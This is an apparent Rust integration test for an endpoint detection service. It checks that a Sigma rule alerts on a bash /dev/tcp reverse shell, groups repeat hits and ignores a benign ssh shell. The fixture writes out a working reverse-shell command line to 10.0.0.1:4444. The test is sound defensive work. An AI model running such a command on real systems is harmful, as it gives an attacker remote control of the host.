//! Streaming detection: events a device uploads are evaluated against the built-in rules as
//! they are stored; a reverse shell raises an alert with its ATT&CK techniques and evidence,
//! a repeat is grouped into the same alert, and a benign look-alike raises nothing.

use std::time::{Duration, Instant};

use serde_json::Value;

use crate::harness::Fixture;
use crate::harness::{exec, rule_id, uplink, wait_until};

#[test]
fn a_reverse_shell_raises_one_grouped_alert_and_a_benign_shell_raises_none() {
    let fx = Fixture::new("dev-detect");
    let up = uplink(fx.agent.clone(), &fx.agent_dir(), 64 << 20);
    let reverse_shell = rule_id("command_and_control/bash_dev_tcp_reverse_shell.yml");

    // Benign first: an admin's interactive shell over ssh.
    up.send(vec![exec(
        "/usr/bin/bash",
        "-bash",
        "/usr/sbin/sshd",
        "admin",
        4242,
    )]);
    wait_until("the benign event stored", 30, || {
        up.stats().events_acked == 1
    });

    let sent = Instant::now();
    up.send(vec![exec(
        "/usr/bin/bash",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "/usr/sbin/nginx",
        "www-data",
        4242,
    )]);
    let mut found = None;
    wait_until("the reverse-shell alert", 30, || {
        found = fx
            .api
            .alerts("")
            .into_iter()
            .find(|a| a["RuleId"] == reverse_shell.as_str());
        found.is_some()
    });
    println!(
        "event sent → alert visible in {} ms",
        sent.elapsed().as_millis()
    );
    let a = found.unwrap();
    assert_eq!(a["DeviceId"], "dev-detect");
    assert_eq!(a["Severity"], "High");
    assert_eq!(a["DetectionSource"], "Sigma");
    assert_eq!(a["Status"], "New");
    assert_eq!(a["Hits"], 1);
    let techniques: Vec<&str> = a["AttackTechniques"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(Value::as_str)
        .collect();
    assert!(
        techniques.contains(&"T1059.004") && techniques.contains(&"T1095"),
        "{techniques:?}"
    );
    let evidence = a["Evidence"].as_array().unwrap();
    let has = |entity: &str, role: &str, key: &str, value: &str| {
        evidence
            .iter()
            .any(|e| e["entity"] == entity && e["role"] == role && e[key] == value)
    };
    assert!(
        has(
            "Process",
            "Related",
            "ProcessCommandLine",
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"
        ),
        "{evidence:?}"
    );
    assert!(
        has("Process", "Parent", "FolderPath", "/usr/sbin/nginx"),
        "{evidence:?}"
    );
    assert!(
        has("User", "Related", "AccountName", "www-data"),
        "{evidence:?}"
    );
    assert!(
        has("Device", "Impacted", "DeviceId", "dev-detect"),
        "{evidence:?}"
    );

    // The alert is in the hunting tables too, with one evidence row per entity.
    let id = a["AlertId"].as_str().unwrap().to_string();
    // (written right after the alert, so it may take a moment)
    let mut info = Vec::new();
    wait_until("the AlertInfo row", 30, || {
        info = fx.api.sql(&format!(
            "SELECT Title, Severity, Category, AttackTechniques, ServiceSource FROM AlertInfo WHERE AlertId = '{id}'"
        ));
        !info.is_empty()
    });
    assert_eq!(info.len(), 1, "{info:?}");
    assert_eq!(info[0]["Severity"], "High");
    assert_eq!(info[0]["Category"], a["Category"]);
    assert!(
        info[0]["AttackTechniques"]
            .as_str()
            .unwrap()
            .contains("T1059.004"),
        "{info:?}"
    );
    let ev = fx.api.sql(&format!(
        "SELECT EntityType, EvidenceRole, DeviceId, FolderPath, AccountName FROM AlertEvidence \
         WHERE AlertId = '{id}' ORDER BY EntityType"
    ));
    assert_eq!(ev.len(), evidence.len(), "{ev:?}");
    assert!(ev.iter().all(|r| r["DeviceId"] == "dev-detect"), "{ev:?}");
    assert!(
        ev.iter()
            .any(|r| r["EntityType"] == "Machine" && r["EvidenceRole"] == "Impacted"),
        "{ev:?}"
    );
    assert!(
        ev.iter()
            .any(|r| r["EntityType"] == "User" && r["AccountName"] == "www-data"),
        "{ev:?}"
    );

    // The same behaviour again: grouped into the same alert.
    up.send(vec![exec(
        "/usr/bin/bash",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "/usr/sbin/nginx",
        "www-data",
        4242,
    )]);
    wait_until("the second hit grouped", 30, || {
        let (_, v) = fx.api.get(&format!("/api/v1/alerts/{id}"));
        v["Hits"] == 2
    });
    std::thread::sleep(Duration::from_millis(300));
    let all = fx.api.alerts("");
    assert_eq!(
        all.iter()
            .filter(|a| a["RuleId"] == reverse_shell.as_str())
            .count(),
        1,
        "one alert for the group"
    );
    // The benign shell raised nothing at all.
    assert!(
        all.iter()
            .all(|a| a["Evidence"].to_string().contains("/dev/tcp/")),
        "only the reverse shell alerted: {all:?}"
    );
    let (st, v) = fx.api.get("/api/v1/alerts/al_0000000000000000");
    assert_eq!(st, 404, "{v}");
    up.shutdown(Duration::from_secs(1));
}
